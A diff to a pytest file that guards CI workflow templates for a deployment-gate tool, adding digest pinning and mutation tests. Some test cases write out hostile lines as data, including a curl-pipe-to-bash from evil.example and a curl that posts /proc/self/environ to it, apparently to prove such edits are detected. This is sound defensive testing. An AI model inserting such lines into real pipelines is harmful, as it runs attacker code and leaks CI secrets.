@@ -318,8 +318,11 @@ def plain_command_findings(where: str, text: str, starts: tuple[str, ...]) -> li
         findings.append(f"{where}: does not start with {' '.join(starts)!r}")
     bad = sorted({t for t in tokens if t in SHELL_OPERATORS or "$(" in t or "`" in t or "GITHUB_ENV" in t
                   or "GITHUB_OUTPUT" in t})
-    if bad:
-        findings.append(f"{where}: more than one plain command ({bad}): the secrets could be handed on")
+    if bad or "\n" in str(text).strip():  # a more-indented line in a folded block stays a second line
+        findings.append(f"{where}: more than one plain command ({bad or 'a second line'}): the secrets could be "
+                        "handed on")
+    if "--force" in tokens:
+        findings.append(f"{where}: --force overrides the evidence gate")
     return findings
 
 
@@ -399,6 +402,43 @@ def workflow_findings(text: str) -> list[str]:
     return findings
 
 
+REVIEWED = json.loads((ROOT / "tests" / "ci-tools" / "reviewed-templates.json").read_text())
+
+
+def template_digest(text: str) -> str:
+    """The sha256 of what a CI system reads from a template (its parsed YAML, comments aside)."""
+    import hashlib
+
+    def keyed(node: object) -> object:  # YAML 1.1 reads GitHub's bare `on` key as True: keys as text
+        if isinstance(node, dict):
+            return {str(k): keyed(v) for k, v in node.items()}
+        return [keyed(v) for v in node] if isinstance(node, list) else node
+
+    canonical = json.dumps(keyed(yaml.safe_load(text)), sort_keys=True, separators=(",", ":"), default=str)
+    return hashlib.sha256(canonical.encode()).hexdigest()
+
+
+@pytest.mark.parametrize("name", ["github-actions.yml", "gitlab-ci.yml"])
+def test_the_templates_are_the_reviewed_ones(name: str) -> None:
+    """The rules above name what must never be; this names what was reviewed. A new step, key, flag or
+    value the rules do not know (a download piped into a shell, a step env that points the OKX key
+    elsewhere, a looser default) changes the digest: review the change against the rules and the README,
+    then record the new digest in tests/ci-tools/reviewed-templates.json."""
+    assert template_digest((EXAMPLES / name).read_text()) == REVIEWED[name], (
+        f"examples/ci/{name} is not the reviewed template: review it, then record its digest")
+
+
+@pytest.mark.parametrize("old, new", [
+    ("      - name: Go-live gate\n", "      - run: curl -fsSL https://evil.example/x.sh | bash\n      - name: Go-live gate\n"),
+    ("  GD_MAX_EVIDENCE_AGE: ${{ vars.GD_MAX_EVIDENCE_AGE || '1h' }}", "  GD_MAX_EVIDENCE_AGE: ${{ vars.GD_MAX_EVIDENCE_AGE || '30d' }}"),
+    ("    runs-on: ubuntu-latest\n    timeout-minutes: 15\n", "    runs-on: [self-hosted, any]\n    timeout-minutes: 15\n"),
+])
+def test_an_edit_the_rules_do_not_name_is_still_caught(old: str, new: str) -> None:
+    assert old in GITHUB, old
+    changed = GITHUB.replace(old, new, 1)
+    assert template_digest(changed) != REVIEWED["github-actions.yml"]
+
+
 def test_github_workflow_pins_every_action_and_gives_least_permissions() -> None:
     assert workflow_findings(GITHUB) == []
 
@@ -453,6 +493,10 @@ LINUX_INSTALL_YAML = ('          "gradual-deploy @ ${GD_WHEEL_URL:?set the GD_WH
      "installs something other than the pinned wheel"),
     (("  GD_EVIDENCE_DIR: evidence\n", "  GD_EVIDENCE_DIR: evidence\n  PIP_EXTRA_INDEX_URL: https://pypi.example.invalid/simple\n"),
      "PIP_"),
+    ((GATE_STEP_END, GATE_STEP_END + "            curl -sd @/proc/self/environ https://evil.example\n"),
+     "a second line"),
+    (('--reason "run $GITHUB_RUN_ID by $GITHUB_ACTOR: $REASON"', '--reason "run $GITHUB_RUN_ID by $GITHUB_ACTOR: $REASON" --force'),
+     "--force overrides the evidence gate"),
 ])
 def test_unsafe_workflow_edits_are_found(mutation: tuple[str, str], finding: str) -> None:
     assert mutation[0] in GITHUB, mutation[0]
@@ -577,6 +621,8 @@ GITLAB_GATE_END = '--max-allocation "$GD_MAX_ALLOCATION" --require-account-check
       "    - pip install --quiet gradual-deploy\n"), "default"),
     ((GITLAB_GATE_END, GITLAB_GATE_END.replace("\n", " | tee gate.log\n")), "more than one plain command"),
     ((" --require-account-check", ""), None),
+    (('--reason "pipeline $CI_PIPELINE_ID', '--force --reason "pipeline $CI_PIPELINE_ID'), "--force overrides"),
+    ((GITLAB_GATE_END, GITLAB_GATE_END + "        curl -sd @/proc/self/environ https://evil.example\n"), "a second line"),
     (('  GD_WHEEL_URL: ""', '  GD_WHEEL_URL: "https://example.invalid/gradual_deploy-0.1.0-py3-none-any.whl"'),
      "no default"),
 ])
